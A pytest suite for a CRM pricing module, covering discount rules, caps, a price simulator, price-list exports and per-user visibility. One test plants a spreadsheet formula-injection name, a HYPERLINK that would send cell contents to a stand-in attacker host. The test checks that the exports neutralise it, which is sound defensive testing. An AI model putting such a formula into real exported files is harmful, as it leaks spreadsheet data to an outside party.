"""The pages: rules (list, create, edit, deactivate, caps), the simulator and the batch form, the
client price list and its exports, the client-file section, and who may do what."""

from __future__ import annotations

import csv
import io
import json
import re
import zlib

import time_machine
from openpyxl import load_workbook
from pricing_helpers import NOW, add_products, rule_params_form
from sqlalchemy import func, select

from core.db import db_session
from core.testing import form_fields, logged_in
from crm_pricing.models import PricingRule
from crm_sales.models import Product, ProductGroup

TIERS = {"period": "quarter", "tiers": [{"threshold": 50000, "percent": 3},
                                        {"threshold": 100000, "percent": 5}]}  # fmt: skip


def _new_rule(http, **fields):
    """Post the rule form; ``params`` (a dict, or its JSON) as the generated inputs post it."""
    form = {"name": "Rule", "kind": "crm_pricing.customer_group_discount", "mode": "stack",
            "priority": "100", "active": "y"}  # fmt: skip
    params = fields.pop("params", {"percent": 3})
    form.update(fields)
    form.update(
        rule_params_form(form["kind"], json.loads(params) if isinstance(params, str) else params)
    )
    return http.post("/pricing/rules/new", data=form)


def _rule_count(app) -> int:
    with app.app_context():
        return db_session.scalar(select(func.count()).select_from(PricingRule))


def test_a_manager_creates_edits_and_deactivates_a_rule(shop):
    http = logged_in(shop, "georgi")
    assert "No active pricing rules" in http.get("/pricing/rules").text
    page = http.get("/pricing/rules/new")
    assert page.status_code == 200 and "Turnover tiers" in page.text
    answer = _new_rule(http, name="Quarterly tiers", kind="crm_pricing.turnover_tiers",
                       params=json.dumps(TIERS), priority="50")  # fmt: skip
    assert answer.status_code == 302
    listing = http.get("/pricing/rules").text
    assert "Quarterly tiers" in listing and "everyone" in listing
    with shop.app_context():
        rule_id = db_session.scalar(select(PricingRule.id))

    url = f"/pricing/rules/{rule_id}/edit"
    form = form_fields(http.get(url).text, action=url)
    prefix = "params[crm_pricing.turnover_tiers]."
    assert form[prefix + "period"] == "quarter" and form[prefix + "basis"] == "last_completed"
    assert [form[f"{prefix}tiers.{i}.{c}"] for i in (0, 1) for c in ("threshold", "percent")] == [
        "50000",
        "3",
        "100000",
        "5",
    ]
    assert form[prefix + "tiers.2.threshold"] == ""  # an empty row to fill in
    answer = http.post(url, data={**form, "name": "Quarterly tiers 2027", "mode": "exclusive"})
    assert answer.status_code == 302
    # a stale form (the version moved on) saves nothing
    stale = http.post(url, data={**form, "name": "Lost update"})
    assert stale.status_code == 409
    with shop.app_context():
        rule = db_session.get(PricingRule, rule_id)
        assert (rule.name, rule.mode) == ("Quarterly tiers 2027", "exclusive")

    confirm = http.get(f"/pricing/rules/{rule_id}/deactivate")
    assert "Deactivate the rule Quarterly tiers 2027?" in confirm.text
    fields = form_fields(confirm.text, action=f"/pricing/rules/{rule_id}/deactivate")
    assert http.post(f"/pricing/rules/{rule_id}/deactivate", data=fields).status_code == 302
    assert "No active pricing rules" in http.get("/pricing/rules").text
    assert "deactivated" in http.get("/pricing/rules?show=inactive").text
    with time_machine.travel(NOW, tick=False):
        quote = http.post("/api/v1/pricing/quote", json={
            "client_id": shop.ids.bioprom, "product_code": "PAP-A4"}).get_json()  # fmt: skip
    assert quote["unit_price"] == "10.00" and quote["not_applied"] == []


def test_every_wrong_field_gets_its_message_and_nothing_is_saved(shop):
    http = logged_in(shop, "georgi")
    answer = _new_rule(
        http, name="", kind="crm_pricing.turnover_tiers", client_id="abc",
        customer_group_id=str(shop.ids.wholesale), valid_from="2027-01-10", valid_to="2027-01-01",
        params=json.dumps({"period": "decade", "tiers": [{"threshold": 1, "percent": 120}]}),
    )  # fmt: skip
    assert answer.status_code == 400
    html = answer.text
    assert "Nothing was saved" in html
    for field in ("name", "client_id", "valid_to", "params"):
        assert f'data-error="{field}"' in html, field
    assert "Period: Must be one of" in html
    percent = "Must be greater than or equal to 0 and less than or equal to 100."
    assert f"Tiers, row 1, percent: {percent}" in html
    # each message also sits under its own input
    assert f'data-error="params[crm_pricing.turnover_tiers].tiers.0.percent">{percent}' in html
    assert 'data-error="params[crm_pricing.turnover_tiers].period"' in html
    assert "Choose a client from the list." in html
    assert _rule_count(shop) == 0

    not_a_number = _new_rule(http, params={"percent": "three"})
    assert not_a_number.status_code == 400 and "Percent: Not a valid number." in not_a_number.text
    assert "Expecting value" not in not_a_number.text
    unknown = _new_rule(http, kind="acme.nothing")
    assert unknown.status_code == 400 and 'data-error="kind"' in unknown.text
    needs_group = _new_rule(http, kind="crm_pricing.product_group_discount")
    assert "A rule of this kind needs a product group." in needs_group.text
    no_product = _new_rule(http, kind="crm_pricing.fixed_price", params='{"price": 5}',
                           product_id="999999")  # fmt: skip
    assert "No such product." in no_product.text
    both = _new_rule(http, client_id=str(shop.ids.bioprom),
                     customer_group_id=str(shop.ids.wholesale))  # fmt: skip
    assert "not both" in both.text
    assert _rule_count(shop) == 0


def test_caps_are_set_per_customer_group_and_limit_the_discount(shop):
    http = logged_in(shop, "georgi")
    _new_rule(http, name="Big", params='{"percent": 40}', customer_group_id=str(shop.ids.wholesale))
    assert http.post("/pricing/caps", data={"percent": "20"}).status_code == 302
    http.post("/pricing/caps", data={"percent": "25", "customer_group_id": shop.ids.wholesale})
    assert "must be a number from 0 to 100" in http.post(
        "/pricing/caps", data={"percent": "120"}, follow_redirects=True).text  # fmt: skip
    caps = http.get("/pricing/rules").text
    assert "Installation-wide" in caps and "25.00 %" in caps
    quote = http.post("/api/v1/pricing/quote", json={
        "client_id": shop.ids.bioprom, "product_code": "PAP-A4"}).get_json()  # fmt: skip
    assert quote["unit_price"] == "7.50" and quote["cap_percent"] == "25.00"
    assert quote["adjustments"][-1]["reason"] == "total discount 40 % limited to the cap of 25 %"


def test_the_simulator_and_the_batch_form(shop):
    with time_machine.travel(NOW, tick=False):
        manager = logged_in(shop, "georgi")
        _new_rule(manager, name="Quarterly tiers", kind="crm_pricing.turnover_tiers",
                  params=json.dumps(TIERS))  # fmt: skip
        http = logged_in(shop, "maria")
        empty = http.get("/pricing/simulator")
        assert empty.status_code == 200 and 'data-testid="quote"' not in empty.text
        page = http.get(f"/pricing/simulator?client_id={shop.ids.bioprom}&product_code=PAP-A4"
                        "&quantity=500&payment_days=10")  # fmt: skip
        assert page.status_code == 200
        assert "9.70 EUR" in page.text
        assert "Q3 2026: quarterly turnover 61,200.00 reaches the 50,000.00 tier: 3 %" in page.text
        wrong = http.get(f"/pricing/simulator?client_id={shop.ids.bioprom}&product_code=NOPE")
        assert wrong.status_code == 400 and "No product has the code NOPE." in wrong.text

        batch = http.post("/pricing/simulator/batch", data={
            "client_id": shop.ids.bioprom, "lines": "PAP-A4 500\nINK-BK, 2\n\n"})  # fmt: skip
        assert batch.status_code == 200
        assert "9.70" in batch.text and "24.25" in batch.text
        assert "4,898.50" in batch.text or "4898.50" in batch.text
        bad = http.post("/pricing/simulator/batch", data={
            "client_id": shop.ids.bioprom, "lines": "PAP-A4 x\nA B C"})  # fmt: skip
        assert bad.status_code == 400
        assert "line 1: the quantity must be a number above 0." in bad.text
        assert "line 2: write a product code and a quantity, nothing else." in bad.text


def test_the_price_list_on_screen_and_as_files(shop):
    with time_machine.travel(NOW, tick=False):
        _new_rule(logged_in(shop, "georgi"), name="Paper -5", params='{"percent": 5}',
                  kind="crm_pricing.product_group_discount",
                  product_group_id=str(shop.ids.paper))  # fmt: skip
        http = logged_in(shop, "maria")
        page = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list")
        assert page.status_code == 200
        assert page.text.index("Ink") < page.text.index("Paper A4")
        assert "9.50</strong> EUR" in page.text and "25.00</strong> EUR" in page.text

        text = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.csv").text
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0][:6] == ["Product group", "Code", "Product", "Unit", "List price",
                               "Your price"]  # fmt: skip
        assert rows[1:] == [
            ["Ink", "INK-BK", "Black cartridge", "pcs", "25.00", "25.00", "0.00", "EUR"],
            ["Paper A4", "PAP-A4", "Copy paper A4", "pcs", "10.00", "9.50", "5.00", "EUR"],
        ]
        xlsx = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.xlsx")
        sheet = load_workbook(io.BytesIO(xlsx.data)).active
        assert [c.value for c in sheet[4]][:6] == ["Paper A4", "PAP-A4", "Copy paper A4", "pcs",
                                                   10, 9.5]  # fmt: skip
        pdf = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.pdf?date=2026-12-01")
        assert pdf.data.startswith(b"%PDF") and pdf.mimetype == "application/pdf"
        assert "2026-12-01" in pdf.headers["Content-Disposition"]
        assert http.get(f"/pricing/clients/{shop.ids.kalina}/price-list").status_code == 404
        assert http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list?date=x").status_code == 400


def _pdf_text_maps(data: bytes) -> str:
    """The PDF's streams as text (deflated ones inflated): the fonts' ToUnicode maps among them."""
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S)
    return "".join((zlib.decompress(s) if s[:1] == b"x" else s).decode("latin-1") for s in streams)


def test_the_pdf_price_list_carries_cyrillic_names(shop):
    with shop.app_context():
        product = db_session.scalar(select(Product).where(Product.code == "PAP-A4"))
        product.name = "Хартия А4"
        db_session.commit()
    with time_machine.travel(NOW, tick=False):
        http = logged_in(shop, "maria")
        pdf = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.pdf").data
    assert b"DejaVuSansCondensed" in pdf
    # Each character shown maps back to its code point: Х is U+0425, я U+044F.
    maps = _pdf_text_maps(pdf).upper()
    assert "<0425>" in maps and "<044F>" in maps


def test_a_price_list_costs_the_same_queries_for_20_or_500_products(shop, count_queries):
    http = logged_in(shop, "georgi")
    _new_rule(http, name="Tiers", kind="crm_pricing.turnover_tiers", params=json.dumps(TIERS))
    _new_rule(http, name="Buy paper", kind="crm_pricing.group_purchase",
              params=json.dumps({"period": "year", "group_ids": [shop.ids.paper],
                                 "threshold": 100, "percent": 1}))  # fmt: skip
    url = f"/pricing/clients/{shop.ids.bioprom}/price-list"

    def measure():
        with count_queries(shop) as csv_queries:
            assert http.get(url + ".csv").status_code == 200
        with count_queries(shop) as page_queries:
            assert http.get(url).status_code == 200
        return len(csv_queries), len(page_queries)

    with shop.app_context():
        add_products(18, db_session.get(ProductGroup, shop.ids.a4))
        db_session.commit()
    few = measure()
    with shop.app_context():
        add_products(480, db_session.get(ProductGroup, shop.ids.ink), start=100)
        db_session.commit()
    many = measure()
    assert many == few
    assert few[0] <= 16, few


def test_the_client_file_shows_negotiated_discounts_and_the_tier_standing(shop):
    with time_machine.travel(NOW, tick=False):
        manager = logged_in(shop, "georgi")
        _new_rule(manager, name="Quarterly tiers", kind="crm_pricing.turnover_tiers",
                  params=json.dumps(TIERS))  # fmt: skip
        _new_rule(manager, name="Bioprom special", client_id=str(shop.ids.bioprom),
                  kind="crm_pricing.discount", params='{"percent": 4}')  # fmt: skip
        spring = _new_rule(manager, name="Spring for all", kind="crm_pricing.discount",
                           params='{"percent": 1}', confirm_overlap="y")  # fmt: skip
        assert spring.status_code == 302, spring.text
        page = logged_in(shop, "maria").get(f"/contacts/clients/{shop.ids.bioprom}").text
    assert "Prices and discounts" in page
    general = page[page.index('data-testid="general-rules"') :]
    assert "Spring for all" in general[: general.index("</ul>")]  # applies to her too
    assert ("Q3 2026 turnover 61,200.00 → 3 %; 38,800.00 more this quarter reaches 5 % "
            "for Q1 2027") in page  # fmt: skip
    assert "Bioprom special" in page


def test_who_may_do_what(shop):
    rep = logged_in(shop, "maria")
    assert rep.get("/pricing/rules").status_code == 200
    assert rep.get("/pricing/rules/new").status_code == 403
    assert _new_rule(rep).status_code == 403
    assert rep.post("/api/v1/pricing/rules", json={"name": "x"}).status_code == 403
    assert rep.post("/pricing/caps", data={"percent": "50"}).status_code == 403
    assert "New rule" not in rep.get("/pricing/rules").text
    assert shop.test_client().get("/pricing/simulator").status_code == 302


def test_the_rules_api(shop):
    http = logged_in(shop, "georgi")
    body = {"name": "Tiers", "kind": "crm_pricing.turnover_tiers", "params": TIERS}
    created = http.post("/api/v1/pricing/rules", json=body)
    assert created.status_code == 201
    rule = created.get_json()
    assert http.get(created.headers["Location"]).get_json()["params"] == TIERS
    bad = http.post("/api/v1/pricing/rules", json={**body, "params": {"period": "x"}})
    assert set(bad.get_json()["errors"]["params"]) == {"period", "tiers"}
    url = f"/api/v1/pricing/rules/{rule['id']}"
    patched = http.patch(url, json={"active": False, "version": rule["version"]})
    assert patched.status_code == 200 and patched.get_json()["active"] is False
    assert http.patch(url, json={"active": True, "version": rule["version"]}).status_code == 409
    listing = http.get("/api/v1/pricing/rules").get_json()
    assert listing["meta"]["total"] == 1
    kinds = {k["name"] for k in http.get("/api/v1/pricing/kinds").get_json()["items"]}
    assert "crm_pricing.group_purchase" in kinds


def test_a_manager_tries_a_rule_before_saving_it(shop):
    with time_machine.travel(NOW, tick=False):
        http = logged_in(shop, "georgi")
        _new_rule(http, name="Wholesale 3 %", customer_group_id=str(shop.ids.wholesale))
        trial = {"try_client_id": str(shop.ids.bioprom), "try_product_code": "PAP-A4",
                 "try_quantity": "500", "action": "try"}  # fmt: skip
        page = _new_rule(http, name="Tiers", kind="crm_pricing.turnover_tiers",
                         params=json.dumps(TIERS), **trial)  # fmt: skip
        assert page.status_code == 200
        # 10.00 × 0.97 (the saved rule) × 0.97 (the tried one) = 9.409
        assert "With this rule: <strong>9.41 EUR</strong>" in page.text
        assert _rule_count(shop) == 1  # nothing saved

        with shop.app_context():
            rule_id = db_session.scalar(select(PricingRule.id))
        url = f"/pricing/rules/{rule_id}/edit"
        form = form_fields(http.get(url).text, action=url)
        ten = rule_params_form("crm_pricing.customer_group_discount", {"percent": 10})
        tried = http.post(url, data={**form, **ten, **trial})
        assert "With this rule: <strong>9.00 EUR</strong>" in tried.text  # in place of the 3 %
        with shop.app_context():
            assert db_session.get(PricingRule, rule_id).params == {"percent": 3}
        wrong = http.post(url, data={**form, **trial, "try_product_code": "NOPE"})
        assert "No product has the code NOPE." in wrong.text
        assert "History" in http.get(url).text


def test_a_patch_is_validated_as_a_whole_rule(shop):
    http = logged_in(shop, "georgi")
    rule = http.post("/api/v1/pricing/rules", json={
        "name": "Cash", "kind": "crm_pricing.early_payment",
        "params": {"days": 10, "percent": 2}}).get_json()  # fmt: skip
    url = f"/api/v1/pricing/rules/{rule['id']}"
    # another kind with the old parameters does not fit: refused, nothing changed
    wrong = http.patch(url, json={"kind": "crm_pricing.discount", "version": rule["version"]})
    assert wrong.status_code == 400
    assert "params" in wrong.get_json()["errors"]
    change = {"kind": "crm_pricing.discount", "params": {"percent": 4}, "valid_from": "2027-01-01"}
    both = http.patch(url, json={**change, "version": rule["version"]})
    assert both.status_code == 200, both.get_json()
    changed = http.get(url).get_json()
    assert (changed["kind"], changed["params"], changed["valid_from"], changed["name"]) == (
        "crm_pricing.discount",
        {"percent": 4},
        "2027-01-01",
        "Cash",
    )
    early = http.patch(url, json={"valid_to": "2026-01-01", "version": changed["version"]})
    assert early.get_json()["errors"] == {"valid_to": ["Must not be before valid from."]}
    assert http.get("/api/v1/pricing/rules/99999").status_code == 404


def test_the_simulator_with_pickers_never_fails_on_a_typed_name(shop):
    with time_machine.travel(NOW, tick=False):
        http = logged_in(shop, "maria")
        client_file = http.get(f"/contacts/clients/{shop.ids.bioprom}").text
        link = f"/pricing/simulator?client_id={shop.ids.bioprom}"
        assert f'href="{link}"' in client_file
        # opened from the client file: the client is chosen, no message, nothing priced yet
        opened = http.get(link)
        assert opened.status_code == 200
        assert f'<option value="{shop.ids.bioprom}" selected>Bioprom</option>' in opened.text
        assert "data-error" not in opened.text and "is-invalid" not in opened.text
        assert 'data-picker="crm_contacts_client"' in opened.text
        assert 'data-picker="crm_sales_product"' in opened.text
        assert "(id)" not in opened.text and "(code)" not in opened.text

        # a name typed where the list was expected: a message, the text kept, never a 500
        typed = http.get(f"/pricing/simulator?client_id=Bioprom&product_id={shop.ids.pap}&price=1")
        assert typed.status_code == 400
        assert "Choose a client from the list" in typed.text
        assert '<option value="Bioprom" selected>Bioprom</option>' in typed.text
        assert f'<option value="{shop.ids.pap}" selected>' in typed.text
        named = http.get(
            f"/pricing/simulator?client_id={shop.ids.bioprom}&product_id=paper&price=1"
        )
        assert named.status_code == 400 and "Choose a product from the list" in named.text
        missing = http.get(f"/pricing/simulator?client_id={shop.ids.bioprom}&price=1")
        assert missing.status_code == 400 and "Choose a product." in missing.text
        # a client she may not see is not priced
        hidden = http.get(
            f"/pricing/simulator?client_id={shop.ids.kalina}&product_id={shop.ids.pap}&price=1"
        )
        assert (
            hidden.status_code == 400 and "No such client among those you may see." in hidden.text
        )

        priced = http.get(
            f"/pricing/simulator?client_id={shop.ids.bioprom}&product_id={shop.ids.pap}"
            "&quantity=500&price=1"
        )
        assert priced.status_code == 200 and 'data-testid="quote"' in priced.text
        assert f'<option value="{shop.ids.pap}" selected>Copy paper A4 (PAP-A4)</option>' in (
            priced.text
        )
        batch = http.post(
            "/pricing/simulator/batch", data={"client_id": "Bioprom", "lines": "PAP-A4"}
        )
        assert batch.status_code == 400 and "Choose a client from the list" in batch.text


def test_the_rule_form_says_which_rules_already_apply_and_how_they_combine(shop):
    http = logged_in(shop, "georgi")
    assert _new_rule(http, name="Wholesale 3 %", customer_group_id=str(shop.ids.wholesale),
                     kind="crm_pricing.discount", priority="50").status_code == 302  # fmt: skip
    assert _new_rule(http, name="Kalina only", client_id=str(shop.ids.kalina),
                     kind="crm_pricing.discount").status_code == 302  # fmt: skip
    # a second discount for one of the wholesale clients: stacked on the group's, said so, and
    # saved only once confirmed
    second = {"name": "Bioprom 2 %", "kind": "crm_pricing.discount",
              "client_id": str(shop.ids.bioprom), "params": {"percent": 2}}  # fmt: skip
    refused = _new_rule(http, **second)
    assert refused.status_code == 400 and _rule_count(shop) == 2
    html = refused.text
    overlaps = html[html.index('data-testid="overlaps"') :]
    assert "Wholesale 3 %" in overlaps and "Kalina only" not in overlaps
    assert "Stacked discounts are compounded" in overlaps
    assert "Where they all apply, 3 % and 2 % make 4.94 % off" in overlaps
    assert "is also a Negotiated discount rule for some of the same clients" in overlaps
    assert "tick the box to save this one as well" in html
    assert _new_rule(http, **second, confirm_overlap="y").status_code == 302
    assert _rule_count(shop) == 3

    # an exclusive rule of another kind is saved at once, its effect on the others shown on edit
    assert _new_rule(http, name="Summer", kind="crm_pricing.early_payment", mode="exclusive",
                     params={"days": 10, "percent": 8}).status_code == 302  # fmt: skip
    with shop.app_context():
        summer = db_session.scalar(select(PricingRule.id).where(PricingRule.name == "Summer"))
    edit = http.get(f"/pricing/rules/{summer}/edit").text
    assert "“Summer” is exclusive: when it applies, no other discount does." in edit
    assert "Kalina only" in edit[edit.index('data-testid="overlaps"') :]


def test_a_representative_sees_no_rule_of_a_client_she_may_not_see(shop):
    """A fixed price negotiated with Peter's client is his client's business: Maria sees it
    neither in the list page (where it was labelled "For: everyone") nor in the API, filtered by
    that client or not; rules for a group or for everyone, and her own client's, she sees."""
    ids = shop.ids
    with shop.app_context():
        for name, client in (("Kalina fixed", ids.kalina), ("Bioprom fixed", ids.bioprom)):
            rule = PricingRule(name=name, kind="crm_pricing.fixed_price", client_id=client,
                               product_id=ids.pap, priority=10)  # fmt: skip
            rule.params_json = json.dumps({"price": "7.50"})
            db_session.add(rule)
        group_rule = PricingRule(name="Wholesale 2%", kind="crm_pricing.discount",
                                 customer_group_id=ids.wholesale, priority=20)  # fmt: skip
        group_rule.params_json = json.dumps({"percent": "2"})
        db_session.add(group_rule)
        db_session.commit()
        hidden = db_session.scalar(select(PricingRule.id).where(PricingRule.name == "Kalina fixed"))
    maria = logged_in(shop, "maria")
    page = maria.get("/pricing/rules").text
    assert "Kalina fixed" not in page
    assert "Bioprom fixed" in page and "Wholesale 2%" in page
    names = [r["name"] for r in maria.get("/api/v1/pricing/rules").get_json()["items"]]
    assert "Kalina fixed" not in names and {"Bioprom fixed", "Wholesale 2%"} <= set(names)
    filtered = maria.get(f"/api/v1/pricing/rules?client_id={ids.kalina}").get_json()
    assert filtered["items"] == [] and filtered["meta"]["total"] == 0
    assert maria.get(f"/api/v1/pricing/rules/{hidden}").status_code == 404
    assert maria.get(f"/pricing/rules/{hidden}/edit").status_code in (403, 404)
    # The manager sees it, for its client, never as "everyone".
    row = logged_in(shop, "georgi").get("/pricing/rules").text.split("Kalina fixed")[1]
    assert "Kalina" in row.split("</tr>")[0] and "everyone" not in row.split("</tr>")[0]


def test_price_list_files_carry_formula_like_names_as_text(shop):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with shop.app_context():
        product = db_session.scalars(select(Product).where(Product.code == "PAP-A4")).one()
        product.name = name
        db_session.commit()
    http = logged_in(shop, "maria")
    with time_machine.travel(NOW, tick=False):
        text = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.csv").text
        xlsx = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.xlsx").data
    assert "'" + name in [cells[2] for cells in csv.reader(io.StringIO(text)) if len(cells) > 2]
    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for cell in row]
    written = next(cell for cell in cells if cell.value == name)
    assert written.data_type == "s"  # a string, which Excel shows; not a formula it would run


def test_the_price_list_of_another_client_is_chosen_with_a_picker(shop):
    http = logged_in(shop, "maria")
    page = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list?date=2026-12-01").text
    assert 'data-testid="other-client"' in page and 'data-picker="crm_contacts_client"' in page
    chosen = http.get(f"/pricing/price-list?client_id={shop.ids.bioprom}&date=2026-12-01")
    assert chosen.status_code == 302
    assert chosen.headers["Location"].endswith(
        f"/pricing/clients/{shop.ids.bioprom}/price-list?date=2026-12-01"
    )
    typed = http.get("/pricing/price-list?client_id=Bioprom")
    assert typed.status_code == 400 and "Choose a client from the list." in typed.text
    assert http.get("/pricing/price-list").status_code == 200
